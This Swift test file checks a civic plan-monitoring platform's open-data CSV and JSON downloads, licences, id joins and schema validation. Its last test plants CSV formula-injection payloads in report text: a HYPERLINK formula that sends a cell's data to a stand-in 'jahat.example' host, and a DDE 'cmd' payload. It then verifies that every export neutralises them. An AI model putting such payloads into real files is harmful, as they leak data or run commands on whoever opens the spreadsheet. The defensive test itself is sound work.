import Fluent
import Foundation
import PantauDomain
@testable import Pantau
import Testing
import Vapor

@Suite("Open data")
struct OpenDataTests {
    @Test func everyColumnIsExplainedInBothLanguages() {
        for table in OpenDataSchema.tables {
            for language in Language.allCases {
                #expect(LocalizationTests.localizer.messages[language]?[table.titleKey] != nil, "\(language): \(table.name)")
                for column in table.columns {
                    #expect(LocalizationTests.localizer.messages[language]?["data.column." + column] != nil, "\(language): \(table.name).\(column)")
                }
            }
            #expect(table.columns.contains(table.primaryKey), "\(table.name)")
            for key in table.foreignKeys {
                #expect(table.columns.contains(key.field), "\(table.name).\(key.field)")
                #expect(OpenDataSchema.table(key.table)?.columns.contains(key.referencedField) == true, "\(table.name).\(key.field)")
            }
        }
    }

    @Test(arguments: TestDatabase.allCases)
    func everyTableDownloadsAsCSVAndJSON(_ database: TestDatabase) async throws {
        try await withTestApp(database) { app in
            _ = try await FirstStart.run(app, demo: false)
            let dictionary = try await app.http().get("/data")
            #expect(dictionary.text.contains("organisation_id") && dictionary.text.contains(DataLicence.ccBy4.url))
            for table in OpenDataSchema.tables {
                let csv = try await app.http().get("/data/\(table.name).csv?plan=ran-ogi-2020-2022")
                #expect(csv.status == .ok, "\(table.name)")
                // UTF-8 without a byte-order mark: the first bytes are the first column's name.
                #expect(csv.text.hasPrefix(table.columns.joined(separator: ",")), "\(table.name)")
                #expect(CSVText.rows(csv.text).first == table.columns, "\(table.name)")
                let json = try await app.http().get("/data/\(table.name).json")
                #expect(json.status == .ok)
                #expect(try json.json(OpenDataFile.self).table == table.name)
            }
            let targets = try await app.http().get("/data/targets.json?plan=ran-ogi-2020-2022").json(OpenDataFile.self)
            #expect(targets.rows.count >= 243)
            #expect(try await app.http().get("/data/tidak-ada.csv").status == .notFound)
            #expect(try await app.http().get("/data/targets.csv?plan=tidak-ada").status == .notFound)
            #expect(try await app.http().get("/data/datapackage.json?plan=tidak-ada").status == .notFound)
        }
    }

    /// What a data journalist does with everything Pantau publishes: downloads every file, validates it against its
    /// schema (with `frictionless`, and the DCAT catalogue with `rdflib`), and joins results to targets and targets to
    /// commitments by id, after a revision has reworded the reported target.
    @Test(arguments: TestDatabase.allCases)
    func aReuserValidatesAndJoinsEverything(_ database: TestDatabase) async throws {
        try await withTestApp(database) { app in
            try await importPlan(SamplePlan.document(), on: app.db)
            let (seknas, implementerA, _, path) = try await ReportingCycleTests.openReport(app)
            #expect(try await implementerA.postAndFollow(path, form: ["achievement": "Rancangan portal disetujui.", "progress": "100"]).status == .ok)
            #expect(try await implementerA.postAndFollow(path, form: ["action": "submit"]).status == .ok)
            try await ReportingCycleTests.startVerification(app)
            let report = try #require(try await TargetReportModel.query(on: app.db).first())
            #expect(try await seknas.postAndFollow("/verify/reports/\(report.id!.uuidString)/score", form: ["score": "80"]).status == .ok)
            try await ReportingCycleTests.closeWindows(app)
            try await ReportingCycleTests.publish("B06", seknas: seknas)
            try await CoCreationTests.fillCoCreation(app)
            _ = try await CoCreationTests.draftWithProposal(app, code: "draf-2035-2036")
            try await ForumService.add(planCode: SamplePlan.code, organisation: "KCK", seat: .government, actor: .system, on: app.db)
            let unnamed = OrganisationModel(name: "Lembaga Tanpa Rencana", acronym: nil, kind: .civilSociety)
            try await unnamed.create(on: app.db)

            // A revision rewords the reported target: its id, and so the join, stays.
            let secretariat = CurrentUser(try #require(try await UserModel.query(on: app.db).filter(\.$email == TestAccounts.secretariat.email).first()))
            var record = try #require(try await PlanReader.document(code: SamplePlan.code, on: app.db).commitments.first)
            let reworded = "Rancangan portal selesai dan disetujui"
            record.goals[0].measures[0].targets = record.goals[0].measures[0].targets.map {
                $0.semester == "B06" ? TargetRecord(semester: "B06", text: reworded) : $0
            }
            _ = try await DraftPlanService.saveCommitment(planCode: SamplePlan.code, number: 1, record: record, reason: "Rumusan diperjelas.",
                                                          actor: secretariat.auditActor, on: app.db)

            let visitor = TestBrowser(app: app)
            var files: [String: (csv: [[String]], json: OpenDataFile)] = [:]
            for table in OpenDataSchema.tables {
                let csv = try await visitor.get("/data/\(table.name).csv")
                let json = try await visitor.get("/data/\(table.name).json")
                #expect(csv.status == .ok && json.status == .ok, "\(table.name)")
                #expect(!csv.text.hasPrefix("\u{FEFF}"), "\(table.name): a byte-order mark")
                #expect(csv.headers.first(name: "Link")?.contains("<\(DataLicence.ccBy4.url)>; rel=\"license\"") == true, "\(table.name)")
                #expect(csv.headers.first(name: .lastModified) != nil, "\(table.name)")
                let file = try json.json(OpenDataFile.self)
                #expect(file.licence.url == DataLicence.ccBy4.url && !file.lastModified.isEmpty, "\(table.name)")
                let rows = CSVText.rows(csv.text)
                #expect(rows.first == table.columns, "\(table.name)")
                #expect(rows.count - 1 == file.rows.count, "\(table.name)")
                // The JSON is typed, and says what the CSV says.
                for (cells, object) in zip(rows.dropFirst(), file.rows) {
                    for (field, cell) in zip(table.fields, cells) {
                        let value = object[field.name] ?? .null
                        switch (field.type, value) {
                        case (.integer, .integer(let number)): #expect(cell == String(number), "\(table.name).\(field.name)")
                        case (.boolean, .boolean(let flag)): #expect(cell == String(flag), "\(table.name).\(field.name)")
                        case (.integer, .null), (.boolean, .null), (_, .null): #expect(cell.isEmpty, "\(table.name).\(field.name)")
                        case (.integer, _), (.boolean, _): Issue.record("\(table.name).\(field.name) is not typed: \(value)")
                        case (_, .text(let text)): #expect(PlanCSV.restored(cell) == text, "\(table.name).\(field.name)")
                        default: Issue.record("\(table.name).\(field.name): \(value)")
                        }
                    }
                }
                files[table.name] = (rows, file)
            }
            func rows(_ table: String) -> [[String: OpenDataValue]] { files[table]?.json.rows ?? [] }
            func ids(_ table: String, _ column: String) -> Set<String> { Set(rows(table).compactMap { $0[column]?.text }) }
            for table in ["target_results", "commitment_results", "proposals", "proposal_stages", "consultation_comments", "plan_versions",
                          "cocreation_phases", "forum_members"] {
                #expect(!rows(table).isEmpty, "\(table) is empty")
            }
            // Joins by id: results to targets, targets to measures and commitments.
            let targets = Dictionary(rows("targets").map { ($0["target_id"]?.text ?? "", $0) }, uniquingKeysWith: { a, _ in a })
            let result = try #require(rows("target_results").first)
            let target = try #require(targets[result["target_id"]?.text ?? ""], "a result's target is not in the targets table")
            #expect(target["target"] == .text(reworded))
            #expect(result["score"] == .integer(80) && result["category"] == .text("baik") && result["category_label"] == .text("Baik"))
            #expect(result["late"] == .boolean(false) && result["not_applicable"] == .boolean(false))
            let joins = [("target_results", "target_id", "targets"), ("targets", "commitment_id", "commitments"), ("targets", "measure_id", "measures"),
                         ("commitment_results", "commitment_id", "commitments")]
            for (table, column, other) in joins {
                let missing = ids(table, column).subtracting(ids(other, column))
                #expect(missing.isEmpty, "\(table).\(column) not in \(other): \(missing)")
            }
            // The plan's status and version on every row; the revision made version 1 of the sample plan.
            let plans = Dictionary(rows("plans").map { ($0["plan_code"]?.text ?? "", $0) }, uniquingKeysWith: { a, _ in a })
            #expect(plans["draf-2035-2036"]?["plan_status"] == .text("draft") && plans["draf-2035-2036"]?["plan_version"] == .null)
            #expect(plans[SamplePlan.code]?["plan_status"] == .text("adopted") && plans[SamplePlan.code]?["plan_version"] == .integer(1))
            #expect(rows("targets").filter { $0["plan_code"] == .text(SamplePlan.code) }.allSatisfy { $0["plan_version"] == .integer(1) })
            // An adopted commitment names its proposal; a merged proposal names the one it went into.
            let adopted = try #require(rows("proposals").first { $0["stage"] == .text("adopted") })
            #expect(adopted["decision_reason"] == .text("Disepakati.") && adopted["decision_date"] == .text("2032-09-02"))
            #expect(rows("commitments").contains { $0["proposal_id"] == adopted["proposal_id"] && $0["commitment_id"] == adopted["commitment_id"] })
            #expect(rows("proposals").contains { $0["stage"] == .text("merged") && $0["merged_into_id"] == adopted["proposal_id"] })
            #expect(rows("consultation_comments").first?["response"] == .text("noted"))
            let commentURL = try #require(rows("consultation_comments").first?["url"]?.text)
            let commentAnchor = try #require(commentURL.split(separator: "#").last.map(String.init))
            #expect(commentAnchor == rows("consultation_comments").first?["comment_id"]?.text)
            // The same ids in the API.
            let commentPlan = try #require(rows("consultation_comments").first?["plan_code"]?.text)
            let apiComments = try await visitor.get("/api/v1/plans/\(commentPlan)/commitments/1/comments").json([[String: OpenDataValue]].self)
            let apiCommentIDs = apiComments.compactMap { $0["id"]?.text }
            #expect(apiCommentIDs.contains(commentAnchor))
            let apiVersions = try await visitor.get("/api/v1/plans/\(SamplePlan.code)/versions").json([[String: OpenDataValue]].self)
            let apiVersionIDs = Set(apiVersions.compactMap { $0["id"]?.text })
            let fileVersionIDs = Set(rows("plan_versions").filter { $0["plan_code"] == .text(SamplePlan.code) }.compactMap { $0["version_id"]?.text })
            #expect(!apiVersionIDs.isEmpty && apiVersionIDs == fileVersionIDs)
            let commentPage = try #require(URLComponents(string: commentURL)?.path)
            #expect(try await visitor.get(commentPage).text.contains("id=\"\(commentAnchor)\""))
            // Absolute addresses, and the page has the anchor the address names.
            let commitmentURL = try #require(rows("commitments").first { $0["plan_code"] == .text(SamplePlan.code) }?["url"]?.text)
            let port = try await app.runningPort()
            #expect(commitmentURL.hasPrefix("http://127.0.0.1:\(port)/plans/"))
            let anchor = try #require(commitmentURL.split(separator: "#").last.map(String.init))
            #expect(try await visitor.get(String(commitmentURL.dropFirst("http://127.0.0.1:\(port)".count))).text.contains("id=\"\(anchor)\""))
            #expect(try await visitor.get(SiteURL.commitment.path(SamplePlan.code, 1)).text.contains("id=\"\(target["target_id"]?.text ?? "-")\""))

            // One plan's files hold that plan's rows only, and the organisations it names.
            for table in OpenDataSchema.tables where table.columns.contains("plan_code") {
                let file = try await visitor.get("/data/\(table.name).json?plan=\(SamplePlan.code)").json(OpenDataFile.self)
                #expect(file.plan == SamplePlan.code && file.rows.allSatisfy { $0["plan_code"] == .text(SamplePlan.code) }, "\(table.name)")
            }
            let organisations = Set(try await visitor.get("/data/organisations.json?plan=\(SamplePlan.code)").json(OpenDataFile.self).rows
                .compactMap { $0["organisation_id"]?.text })
            let named = Set((rows("measures") + rows("target_results")).filter { $0["plan_code"] == .text(SamplePlan.code) }
                .compactMap { ($0["responsible_organisation_id"] ?? $0["organisation_id"])?.text })
            #expect(!named.isEmpty && named.isSubset(of: organisations))
            #expect(!organisations.contains(unnamed.id!.uuidString) && ids("organisations", "organisation_id").contains(unnamed.id!.uuidString))

            // The licence in the OpenAPI document and the feed; the package and catalogue, as a reuser's tools read them.
            let openAPI = try await visitor.get("/api/v1/openapi.json").text
            #expect(openAPI.contains(DataLicence.ccBy4.url))
            #expect(try await visitor.get("/feed.atom").text.contains("<link rel=\"license\" href=\"\(DataLicence.ccBy4.url)\"/>"))
            let base = "http://127.0.0.1:\(port)"
            for query in ["", "?plan=\(SamplePlan.code)"] {
                let (status, output) = try await Self.checkOpenData(package: base + "/data/datapackage.json" + query, catalogue: base + "/data/catalog.jsonld" + query)
                #expect(status == 0, "\(output)")
                #expect(output.contains("\"valid\": true"), "\(output)")
            }
        }
    }

    /// An operator's own licence (`PANTAU_DATA_LICENCE`) replaces CC BY 4.0 wherever the licence is stated.
    @Test(arguments: TestDatabase.allCases)
    func anOperatorsLicenceIsStatedEverywhere(_ database: TestDatabase) async throws {
        try await withTestApp(database) { app in
            try await importPlan(SamplePlan.document(), on: app.db)
            let odbl = DataLicence(id: "ODbL-1.0", title: "ODbL-1.0", url: "https://opendatacommons.org/licenses/odbl/1-0/")
            app.dataLicence = odbl
            let visitor = TestBrowser(app: app)
            #expect(try await visitor.get("/data").text.contains(odbl.url))
            #expect(try await visitor.get("/data/targets.csv").headers.first(name: "Link")?.contains("<\(odbl.url)>; rel=\"license\"") == true)
            #expect(try await visitor.get("/data/targets.json").json(OpenDataFile.self).licence.id == "ODbL-1.0")
            let package = try #require(try JSONSerialization.jsonObject(with: Data(buffer: try await visitor.get("/data/datapackage.json").body)) as? [String: Any])
            #expect(((package["licenses"] as? [[String: Any]])?.first?["path"] as? String) == odbl.url)
            #expect(try await visitor.get("/data/catalog.jsonld").text.contains(odbl.url))
            let openAPI = try #require(try JSONSerialization.jsonObject(with: Data(buffer: try await visitor.get("/api/v1/openapi.json").body)) as? [String: Any])
            #expect(((openAPI["info"] as? [String: Any])?["license"] as? [String: String]) == ["name": "ODbL-1.0", "url": odbl.url])
            #expect(try await visitor.get("/feed.atom").text.contains("<link rel=\"license\" href=\"\(odbl.url)\"/>"))
        }
    }

    /// `scripts/check-open-data.py`: frictionless and rdflib, as a reuser runs them.
    /// It runs on a thread of its own: waiting on Swift's few shared threads would keep the test server from answering it.
    static func checkOpenData(package: String, catalogue: String) async throws -> (Int32, String) {
        let root = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent()
        return try await withCheckedThrowingContinuation { continuation in
            Thread.detachNewThread {
                let process = Process()
                process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
                process.arguments = ["python3", root.appendingPathComponent("scripts/check-open-data.py").path, package, catalogue]
                let output = Pipe()
                process.standardOutput = output
                process.standardError = output
                do {
                    try process.run()
                    let data = output.fileHandleForReading.readDataToEndOfFile()
                    process.waitUntilExit()
                    continuation.resume(returning: (process.terminationStatus, String(decoding: data, as: UTF8.self)))
                } catch {
                    continuation.resume(throwing: error)
                }
            }
        }
    }

    /// An open data JSON file as a reuser reads it.
    struct OpenDataFile: Decodable {
        struct Licence: Decodable { let id: String; let url: String }
        let table: String
        let plan: String?
        let licence: Licence
        let lastModified: String
        let rows: [[String: OpenDataValue]]

        enum CodingKeys: String, CodingKey {
            case table, plan, licence, rows
            case lastModified = "last_modified"
        }
    }

    /// Report texts and plan texts that start like formulas (`=HYPERLINK(...)` sends whoever clicks it, with the cell
    /// next to it, to another site) reach every public CSV as text: a quote before them, no live formula anywhere.
    @Test(arguments: TestDatabase.allCases)
    func noCSVCarriesALiveFormula(_ database: TestDatabase) async throws {
        try await withTestApp(database) { app in
            try await importPlan(SamplePlan.withFormulaLikeTexts(), on: app.db)
            let (seknas, implementerA, _, path) = try await ReportingCycleTests.openReport(app)
            let formula = #"=HYPERLINK("https://jahat.example/?d="&B2,"Lihat bukti")"#
            #expect(try await implementerA.postAndFollow(path, form: ["achievement": formula, "progress": "40"]).status == .ok)
            #expect(try await implementerA.postAndFollow("\(path)", form: ["action": "submit"]).status == .ok)
            // Only verified reports are public: score it, then publish.
            try await ReportingCycleTests.startVerification(app)
            let report = try #require(try await TargetReportModel.query(on: app.db).first())
            #expect(try await seknas.postAndFollow("/verify/reports/\(report.id!.uuidString)/score", form: ["score": "80"]).status == .ok)
            try await ReportingCycleTests.closeWindows(app)
            try await ReportingCycleTests.publish("B06", seknas: seknas)

            let visitor = TestBrowser(app: app)
            var files = OpenDataSchema.names.map { "/data/\($0).csv" }
            files += ["/plans/contoh-2030-2032/export/csv", "/plans/contoh-2030-2032/report.csv?period=B06"]
            var everyCell: [String] = []
            for file in files {
                let answer = try await visitor.get(file)
                #expect(answer.status == .ok, "\(file)")
                let cells = CSVText.rows(answer.text).flatMap { $0 }
                #expect(cells.filter(CSVText.startsLikeAFormula).isEmpty, "\(file): \(cells.filter(CSVText.startsLikeAFormula))")
                everyCell += cells
            }
            #expect(everyCell.contains("'" + formula))
            #expect(everyCell.contains("'=1+1") && everyCell.contains("'@cmd|' /C calc'!A0") && everyCell.contains("'+SUM(1,2)"))
            // The page and the JSON show the text as written.
            let json = try await visitor.get("/data/target_results.json")
            #expect(try json.json(OpenDataFile.self).rows.contains { $0["achievement"] == .text(formula) })
        }
    }
}

extension OpenDataValue: Decodable {
    public init(from decoder: any Decoder) throws {
        let container = try decoder.singleValueContainer()
        if container.decodeNil() { self = .null }
        else if let flag = try? container.decode(Bool.self) { self = .boolean(flag) }
        else if let number = try? container.decode(Int.self) { self = .integer(number) }
        else { self = .text(try container.decode(String.self)) }
    }

    var text: String? { if case .text(let text) = self { text } else { nil } }
}
